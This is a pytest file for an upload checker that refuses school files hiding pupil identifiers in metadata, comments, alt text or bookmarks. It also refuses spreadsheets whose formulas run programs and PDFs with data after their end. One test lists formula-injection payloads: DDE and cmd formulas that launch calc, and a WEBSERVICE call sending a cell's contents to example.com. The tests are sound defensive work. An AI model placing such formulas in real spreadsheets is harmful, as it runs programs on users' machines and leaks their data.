"""Pupil data hidden where a reader can still find it: the file's name, its properties, comments and notes,
headers, sheet and range names, drop-down lists, alt text, tracked deletions; a PDF's metadata, sticky notes and
bookmarks. Each is refused, saying where; ordinary files with ordinary properties and dates still pass."""

import datetime as dt
import io

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from sendfund.core.filecheck import UploadRefused, check_bytes

from . import files

UPN = "E926201512345"  # a well-formed UPN (its check letter is right)
NAMED = "Jamie Smith in Year 4"


def _refused(name: str, data: bytes) -> str:
    with pytest.raises(UploadRefused) as refusal:
        check_bytes(name, data)
    return str(refusal.value)


def _workbook(change) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Costs"
    sheet.append(["Activity", "Cost"])
    sheet.append(["SENCO time", 2500])
    change(book, sheet)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("name", [f"Plan for {NAMED}.pdf", f"UPN {UPN}.pdf", "NHS 943 476 5919.pdf"])
def test_a_file_named_after_a_child_is_refused_by_its_name(name):
    message = _refused(name, files.pdf())
    assert message.startswith("The selected file's name contains something that looks like")
    assert "Rename the file" in message and UPN not in message


def _comment(book, sheet):
    sheet["A2"].comment = Comment(f"Ask about {UPN}", "SENCO")


def _header(book, sheet):
    sheet.oddHeader.center.text = f"Notes on {UPN}"


def _sheet_name(book, sheet):
    sheet.title = NAMED


def _defined_name(book, sheet):
    book.defined_names["pupil"] = DefinedName("pupil", attr_text=f'"{UPN}"')


def _drop_down(book, sheet):
    validation = DataValidation(type="list", formula1=f'"{UPN},other"')
    sheet.add_data_validation(validation)
    validation.add("C2")


def _author(book, sheet):
    book.properties.creator = NAMED


def _title(book, sheet):
    book.properties.title = f"Record of {UPN}"


@pytest.mark.parametrize("change", [_comment, _header, _sheet_name, _defined_name, _drop_down, _author, _title],
                         ids=lambda f: f.__name__.strip("_"))
def test_a_spreadsheet_hiding_pupil_data_off_its_cells_is_refused(change):
    message = _refused("costs.xlsx", _workbook(change))
    assert "contains something that looks like" in message and UPN not in message


def test_a_word_document_hiding_pupil_data_in_alt_text_or_a_tracked_deletion_is_refused():
    alt = (f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
           f'wordprocessingDrawing"><wp:docPr id="1" name="Picture 1" descr="{NAMED}"/></wp:inline></w:drawing>'
           f'</w:r></w:p>')
    deleted = f"<w:p><w:del><w:r><w:delText>{UPN}</w:delText></w:r></w:del></w:p>"
    for hidden in (alt, deleted):
        data = files.zipped({"[Content_Types].xml": files._content_types(files.WORD_MAIN), "_rels/.rels": files.ROOT_RELS,
                             "word/document.xml": f'<?xml version="1.0" encoding="UTF-8"?><w:document '
                                                  f'xmlns:w="{files.W_NS}"><w:body>{hidden}</w:body></w:document>'})
        message = _refused("plan.docx", data)
        assert "a hidden part of the file" in message


def _pdf_with(change) -> bytes:
    return files.pdf_written_by_pypdf(change)


def test_a_pdf_hiding_pupil_data_in_its_properties_notes_or_bookmarks_is_refused():
    def metadata(writer):
        writer.add_metadata({"/Title": f"Record of {UPN}", "/Author": NAMED})

    def sticky_note(writer):
        note = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Text"),
                                 NameObject("/Contents"): TextStringObject(f"Check {UPN}"),
                                 NameObject("/Rect"): files.pdf_rect()})
        writer.add_annotation(page_number=0, annotation=note)

    def bookmark(writer):
        writer.add_outline_item(NAMED, 0)

    for change in (metadata, sticky_note, bookmark):
        message = _refused("plan.pdf", _pdf_with(change))
        assert message.startswith("The selected file contains something that looks like"), message
        assert "the file's properties, comments or bookmarks" in message


def test_ordinary_files_with_ordinary_properties_and_their_own_dates_pass():
    def ordinary(book, sheet):
        book.properties.creator = "Acle Academy cluster"
        book.properties.title = "SEN-D Action Plan 2026-27"
        book.properties.created = dt.datetime(2015, 4, 3, 9, 30)  # the file's own date, not a child's birthday
        sheet["A2"].comment = Comment("Costs agreed by the heads on 12/10/2026", "SENCO")

    assert check_bytes("SEN-D Action Plan 2026-27.xlsx", _workbook(ordinary)).extension == ".xlsx"

    def ordinary_pdf(writer):
        writer.add_metadata({"/Title": "Cluster development plan", "/Author": "Acle Academy cluster",
                             "/CreationDate": "D:20150403093000Z"})
        writer.add_outline_item("Priorities for 2026-27", 0)

    assert check_bytes("Cluster plan (final).pdf", _pdf_with(ordinary_pdf)).extension == ".pdf"
    assert check_bytes("plan.docx", files.docx()).extension == ".docx"


@pytest.mark.parametrize("formula", ["=cmd|' /C calc'!A0", '=WEBSERVICE("https://example.com/?"&A2)',
                                     "=DDE(\"cmd\",\"/C calc\",\"x\")", '=msexcel|"\\..\\..\\..\\Windows\\System32\\cmd"!A0'])
def test_a_spreadsheet_whose_formula_runs_a_program_or_fetches_a_page_is_refused(formula):
    def change(book, sheet):
        sheet["C2"] = formula

    message = _refused("costs.xlsx", _workbook(change))
    assert message.startswith("The selected file has a formula that runs a program or fetches a web page")


def test_ordinary_formulas_pass():
    def change(book, sheet):
        sheet["B3"] = "=SUM(B2:B2)"
        sheet["C3"] = '=IF(B3>1000,"Over","Under")'
        sheet["D3"] = '=HYPERLINK("https://www.gov.uk","GOV.UK")'

    assert check_bytes("costs.xlsx", _workbook(change)).extension == ".xlsx"


def test_a_pdf_with_data_after_its_end_is_refused():
    message = _refused("plan.pdf", files.pdf() + b"PK\x03\x04 hidden after the end")
    assert message.startswith("The selected file has data after the end of the PDF")
    assert check_bytes("plan.pdf", files.pdf() + b"\r\n\n").extension == ".pdf"  # line ends are not data
